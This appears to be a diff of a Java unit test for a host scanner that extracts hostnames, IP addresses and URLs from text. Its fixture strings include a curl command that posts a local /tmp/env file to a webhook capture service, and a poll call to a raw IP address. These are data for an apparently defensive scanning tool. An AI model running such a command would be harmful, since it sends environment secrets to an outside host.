@@ -28,7 +28,7 @@ class HostScannerTest {
     }
 
     @Test
-    void urlsBareNamesAndMailAddressesCountButVersionsAndFileNamesDoNot() {
+    void urlsBareNamesMailAndIpAddressesCountButVersionsAndFileNamesDoNot() {
         String text = """
                 curl -s -d @/tmp/env https://Webhook.Site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
                 see docs at example.com. or mail ops@corp.example.org
@@ -37,7 +37,23 @@ class HostScannerTest {
                 """;
 
         assertThat(HostScanner.hosts(text.getBytes(StandardCharsets.UTF_8)))
-                .containsExactly("webhook.site", "example.com", "corp.example.org");
+                .containsExactly("webhook.site", "example.com", "corp.example.org", "10.0.0.1");
+    }
+
+    @Test
+    void withUrlsAUrlsPathIsKeptBesideItsHostWithoutSchemeOrPort() {
+        String text = """
+                curl -s -d @/tmp/env https://Webhook.Site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7 "x"
+                poll("http://142.11.206.73:8000/6202033"); see [the API](https://api.github.com/search/commits?q=x).
+                just a host https://example.com/ and example.org
+                """;
+
+        assertThat(HostScanner.hosts(text.getBytes(StandardCharsets.UTF_8), true)).containsExactly(
+                "webhook.site", "142.11.206.73", "api.github.com", "example.com", "example.org",
+                "webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7", "142.11.206.73/6202033",
+                "api.github.com/search/commits?q=x");
+        assertThat(HostScanner.hosts(text.getBytes(StandardCharsets.UTF_8)))
+                .noneMatch(HostScanner::isUrl);
     }
 
     @Test
